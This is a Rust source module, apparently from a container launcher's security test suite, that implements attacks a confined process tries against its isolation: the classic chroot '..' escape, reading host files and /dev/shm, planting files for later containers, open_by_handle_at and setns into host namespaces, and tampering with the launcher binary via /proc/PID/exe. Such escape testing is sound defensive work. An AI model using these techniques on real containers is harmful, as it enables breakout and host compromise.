//! Attacks on files.

use std::env;
use std::fs::{self, File};
use std::io::Read;
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::thread;
use std::time::Duration;

use launcher::command_line::errno_of;
use launcher::mountinfo::mounts_of;
use nix::errno::Errno;
use nix::fcntl::AT_FDCWD;
use nix::mount::{MntFlags, umount2};
use nix::sched::{CloneFlags, setns};
use nix::sys::stat::{UtimensatFlags, utimensat};
use nix::sys::time::TimeSpec;
use nix::unistd::chroot;

use super::told::Told;
use crate::system_calls;

/// The attacker's own place, in the root file system and on the host.
pub(crate) const FROM_HERE: &str = "/mnt/attacker";

/// The classic way out: chroot(2) moves the root directory below the working directory, and nothing
/// stops `..` of a process that stands outside of its root. On the host there is nothing to leave.
pub(super) fn walk_out_of_chroot() {
    let deeper = Path::new(FROM_HERE).join("deeper");
    if fs::create_dir(&deeper).is_err() || chroot(&deeper).is_err() {
        return;
    }
    for _ in 0..64 {
        // At the top `..` is `.`, and that is no error.
        let _ = env::set_current_dir("..");
    }
    // If this fails, the attack finds nothing, and says so.
    let _ = chroot(".");
}

/// Reads a file of the host by its path.
pub(crate) fn read_file(told: &Told) -> Result<String, Errno> {
    read(Path::new(told.word(0)?))
}

/// Reads what processes of the host share by name: a file in /dev/shm (shm_open(3)).
pub(crate) fn read_shared_file(told: &Told) -> Result<String, Errno> {
    read(&Path::new("/dev/shm").join(told.word(0)?))
}

pub(super) fn read(path: &Path) -> Result<String, Errno> {
    fs::read_to_string(path).map_err(|error| errno_of(&error))
}

/// Leaves something in the root file system, for the next container to find.
pub(crate) fn spoil_shared_files(told: &Told) -> Result<String, Errno> {
    fs::write(told.word(0)?, told.word(1)?).map_err(|error| errno_of(&error))?;
    Ok("written".to_owned())
}

/// Opens a file by its handle, from any mount that it can see (open_by_handle_at(2)).
pub(crate) fn open_by_handle(told: &Told) -> Result<String, Errno> {
    let kind = told.number(0)?;
    let handle: Vec<u8> = (1..).map_while(|index| told.number(index).ok()).collect();
    let mut refused = None;
    for mount in mount_points() {
        let Ok(mount) = File::open(mount) else { continue };
        match system_calls::open_by_handle(mount.as_raw_fd(), kind, &handle) {
            Err(errno) => _ = refused.get_or_insert(errno),
            Ok(mut file) => {
                let mut text = String::new();
                file.read_to_string(&mut text).map_err(|error| errno_of(&error))?;
                return Ok(text);
            }
        }
    }
    Err(refused.unwrap_or(Errno::ENOENT))
}

/// Opens a namespace of the host by its handle, enters it, and reads a file there.
pub(crate) fn enter_by_handle(told: &Told) -> Result<String, Errno> {
    let kind = told.number(1)?;
    let handle: Vec<u8> = (2..).map_while(|index| told.number(index).ok()).collect();
    let namespace = system_calls::open_by_handle(system_calls::NAMESPACES, kind, &handle)?;
    setns(namespace, CloneFlags::CLONE_NEWNS)?;
    read(Path::new(told.word(0)?))
}

/// The root directory, and every other mount that this process knows of.
fn mount_points() -> Vec<PathBuf> {
    let others = mounts_of("self").unwrap_or_default().into_iter().map(|mount| mount.mount_point);
    [PathBuf::from("/")].into_iter().chain(others).collect()
}

/// The time that a changed file gets: the first second of 1970.
pub(crate) const MARK: i64 = 1;

/// A link in the root file system to what is executed at that moment: the launcher.
pub(crate) const ITSELF: &str = "itself";

/// Changes the launcher's own file: by its path, or through /proc/PID/exe of a process that runs
/// it. What it could change here is the content as well, as soon as nobody executes it.
pub(crate) fn change_launcher(told: &Told) -> Result<String, Errno> {
    let path = Path::new(told.word(0)?);
    let name = path.file_name().and_then(|name| name.to_str()).ok_or(Errno::EINVAL)?;
    // In a pod the launcher reads from a fifo: it runs when this is open, and ends when it closes.
    let _fifo = told.word(1).map(|fifo| open_when_read(Path::new(fifo)));
    mark(path)
        .or_else(|_| mark_through_proc(name))
        .or_else(|_| {
            // A container in a container has mounted its /proc on top of the outer one.
            umount2("/proc", MntFlags::MNT_DETACH).and_then(|()| mark_through_proc(name))
        })
        .map(|()| "marked".to_owned())
}

/// Opens a fifo when somebody reads from it; not at all if nobody does within a second.
fn open_when_read(fifo: &Path) -> Option<File> {
    let open = || File::options().write(true).custom_flags(libc::O_NONBLOCK).open(fifo).ok();
    (0..100).find_map(|_| {
        open().or_else(|| {
            thread::sleep(Duration::from_millis(10));
            None
        })
    })
}

fn mark(path: &Path) -> Result<(), Errno> {
    let time = TimeSpec::new(MARK, 0);
    utimensat(AT_FDCWD, path, &time, &time, UtimensatFlags::FollowSymlink)
}

/// Marks the executable of every process with that name, or that of the link in the rootfs.
fn mark_through_proc(name: &str) -> Result<(), Errno> {
    let mut result = Err(Errno::ENOENT);
    for entry in fs::read_dir("/proc").map_err(|error| errno_of(&error))?.flatten() {
        let process = entry.path();
        let runs = fs::read_to_string(process.join("comm")).unwrap_or_default();
        if [name, ITSELF].contains(&runs.trim_end()) {
            result = result.or(mark(&process.join("exe")));
        }
    }
    result
}
